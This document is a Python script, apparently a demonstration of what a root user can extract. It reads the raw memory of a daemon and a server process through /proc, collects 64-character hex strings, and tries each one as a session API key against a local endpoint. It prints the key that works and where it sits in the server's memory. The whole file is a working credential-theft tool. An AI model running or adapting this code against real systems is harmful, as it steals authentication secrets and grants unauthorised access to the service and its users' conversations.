"""What root sees: ``look.py DAEMON SERVER PORT OTHER_KEYS...`` says the session key and where it lies in the server's memory."""

import json
import re
import sys
import urllib.error
import urllib.request

ONLY_DIGITS = bytes(byte if byte in b"0123456789abcdef" else 0x20 for byte in range(256))
SENT = re.compile(rb"(?i)x-session-api-key: ([0-9a-f]{64})")
CHUNK = 1 << 22


def pieces(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in maps:
            span, rights = line.split()[:2]
            if rights.startswith("rw"):
                start, end = (int(word, 16) for word in span.split("-"))
                for at in range(start, end, CHUNK):
                    try:
                        memory.seek(at)
                        yield at, memory.read(min(CHUNK, end - at))
                    except (OSError, ValueError, OverflowError):
                        break


def keys(piece):
    return (word.decode() for word in piece.translate(ONLY_DIGITS).split() if len(word) == 64)


def is_taken(port, key):
    request = urllib.request.Request(f"http://127.0.0.1:{port}/api/conversations/count", headers={"X-Session-API-Key": key})
    try:
        return urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=10).status == 200
    except urllib.error.HTTPError:
        return False


def main():
    daemon, server, port = (int(word) for word in sys.argv[1:4])
    sent = {key.decode() for _, piece in pieces(daemon) for key in SENT.findall(piece)}
    session_key = next((key for key in sent if is_taken(port, key)), None)
    if session_key is None:
        # The daemon alone also holds thousands of digests of files.
        both = [{key for _, piece in pieces(pid) for key in keys(piece)} for pid in (daemon, server)]
        session_key = next((key for key in (both[0] & both[1]) - set(sys.argv[4:]) if is_taken(port, key)), None)
    address = None
    for start, piece in pieces(server) if session_key else ():
        at = piece.find(session_key.encode())
        if at >= 0:
            address = start + at
            break
    print(json.dumps({"session_key": session_key, "key_address": address}))


main()
